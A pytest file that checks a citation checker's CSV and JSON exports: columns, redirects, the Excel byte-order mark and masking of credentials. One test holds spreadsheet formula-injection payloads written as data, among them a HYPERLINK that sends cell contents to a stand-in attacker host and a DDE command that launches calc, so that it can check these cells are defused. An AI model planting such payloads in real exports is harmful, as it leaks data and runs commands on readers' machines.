"""The citation table (``check --format csv``, ``export --format csv|json``), read back as a
spreadsheet user or a script would: with the csv module, the json module and pandas' rules."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace

import pytest

from citecheck import __version__
from citecheck.models import PageMeta, Status
from citecheck.report import Command, check_csv, export_json, renderer

from factories import (
    HOSTILE_TEXT,
    SECRET,
    cited_five_times,
    every_status,
    fetched,
    finding,
    reference,
    report,
)

JSON_FIELDS = [
    "letter", "line", "column", "kind", "footnote", "text", "url",
    "cited_title", "cited_date", "cited_date_text",
    "status", "message", "http_status", "final_url", "redirects", "title", "published",
    "site_name", "content_type", "title_similarity", "suggestion", "elapsed_ms", "from_cache",
]  # fmt: skip
COLUMNS = [*JSON_FIELDS, "reason", "archived_copy", "accessed"]
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def read(text: str) -> list[dict[str, str]]:
    """The rows as Python's csv reads the file with ``encoding="utf-8-sig"`` (README)."""
    return list(csv.DictReader(io.StringIO(text.encode("utf-8").decode("utf-8-sig"))))


def test_check_and_export_write_the_same_table() -> None:
    checked = report(every_status() + cited_five_times())
    check_csv = renderer("csv", Command.CHECK)(checked)
    assert renderer("csv", Command.EXPORT)(checked) == check_csv
    reader = csv.DictReader(io.StringIO(check_csv.removeprefix("\ufeff")))
    rows = list(reader)
    assert reader.fieldnames == COLUMNS
    assert len(rows) == len(checked.references)
    broken = next(row for row in rows if row["status"] == "broken")
    assert broken["reason"] == "http_404"
    assert broken["archived_copy"].startswith("https://web.archive.test/web/2025")
    assert broken["accessed"] == "2026-05-19"
    assert broken["text"] == HOSTILE_TEXT


def test_rows_put_the_claims_beside_the_findings() -> None:
    findings = every_status() + cited_five_times()
    rows = read(check_csv.render(report(findings)))
    for row, item in zip(rows, findings, strict=True):
        ref = item.reference
        assert (row["letter"], row["line"], row["column"]) == (
            ref.letter,
            str(ref.line),
            str(ref.column),
        )
        assert row["footnote"] == (ref.footnote or "")
        assert row["cited_title"] == (ref.cited_title or "")
        assert row["cited_date"] == (ref.cited_date or "")
        assert row["title"] == (item.meta.title if item.meta and item.meta.title else "")
        assert row["accessed"] == (item.accessed if item.fetched else "")  # only what was read
        assert row["status"] == item.status.value
    # Numbers are never defused: no numeric column can be negative (README).
    assert (rows[0]["http_status"], rows[0]["elapsed_ms"], rows[2]["title_similarity"]) == (
        "200",
        "42",
        "0.41",
    )
    assert rows[0]["published"] == "2025-07-17"
    assert rows[1]["final_url"] == "https://www.amnesty.test/en/documents/report-2024/"
    assert rows[1]["redirects"] == "http://amnesty.test/report-2024 (301)"
    assert rows[1]["reason"] == "permanent_redirect"
    assert rows[2]["reason"] == "date_differs"
    assert rows[4]["reason"] == "http_403"
    assert [row["reason"] for row in rows[6:9]] == ["placeholder", "private_address", "invalid_url"]
    assert rows[9]["reason"] == "syntax_only"
    assert rows[0]["reason"] == ""  # ok needs no reason


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_a_spreadsheet_would_run_is_defused(start: str) -> None:
    payload = f'{start}HYPERLINK("https://evil.test/?"&A1,"Click")'
    item = finding(
        Status.MISMATCHED,
        reference(
            "https://ngo.test/a",
            text=payload,
            cited_title=payload,
            footnote=f"{start}1",
            letter=f"{start}cmd|' /C calc'!A0.md",
        ),
        "title differs",
        meta=PageMeta(title=payload, site_name=f"{start}2+3"),
        fetch=fetched("https://ngo.test/a"),
    )
    text = check_csv.render(report([item]))
    (row,) = read(text)
    written = {
        "letter": item.reference.letter,
        "footnote": f"{start}1",
        "text": payload,
        "cited_title": payload,
        "title": payload,
        "site_name": f"{start}2+3",
    }
    for column, value in written.items():
        assert row[column] == "'" + value, column
    # Every cell is quoted, so that the quote and the tab or CR stay inside their cell.
    data_line = text.removeprefix("\ufeff").split("\n", 1)[1]
    assert data_line.startswith('"')
    assert "\n'" not in text and ",'" not in text


def test_non_ascii_survives_with_a_byte_order_mark_for_excel() -> None:
    title = "Chine : détentions arbitraires — 人权 «Überblick»"
    item = replace(
        every_status()[0], reference=replace(every_status()[0].reference, cited_title=title)
    )
    data = check_csv.render(report([item])).encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the BOM
    (row,) = read(data.decode("utf-8"))
    assert row["cited_title"] == title
    assert list(row)[0] == "letter"  # utf-8-sig leaves no BOM in the first column's name


def test_csv_masks_credentials() -> None:
    text = check_csv.render(report(every_status()))
    assert SECRET not in text
    assert "https://***@intranet.ngo.test/drafts/brief.pdf" in text


def test_json_export_is_the_same_table_with_metadata() -> None:
    findings = every_status() + cited_five_times()
    document = json.loads(export_json.render(report(findings)))
    assert document["version"] == 1
    assert document["tool"] == {"name": "citecheck", "version": __version__}
    assert document["letters"] == ["letters/2025-07-eu-china.md", "letters/other.md"]
    assert document["summary"]["total"] == len(findings)
    rows = document["references"]
    assert [list(row) for row in rows] == [COLUMNS] * len(findings)
    csv_rows = read(check_csv.render(report(findings)))
    for row, csv_row in zip(rows, csv_rows, strict=True):
        assert (row["reason"] or "") == csv_row["reason"]
        assert (row["archived_copy"] or "") == csv_row["archived_copy"]
        assert (row["accessed"] or "") == csv_row["accessed"]
        assert row["url"] == csv_row["url"] or csv_row["url"] == "'" + row["url"]
    assert rows[0]["line"] == 40
    assert rows[1]["redirects"] == [{"url": "http://amnesty.test/report-2024", "status": 301}]
    assert rows[3]["cited_title"] is None
    assert rows[3]["reason"] == "http_404"
    assert SECRET not in json.dumps(document)


def test_accessed_is_empty_for_a_source_never_read() -> None:
    not_read = finding(
        Status.UNREACHABLE, reference(), "not in cache (--offline)", accessed="2026-05-21"
    )
    (row,) = read(check_csv.render(report([not_read])))
    assert (row["accessed"], row["reason"]) == ("", "not_in_cache")
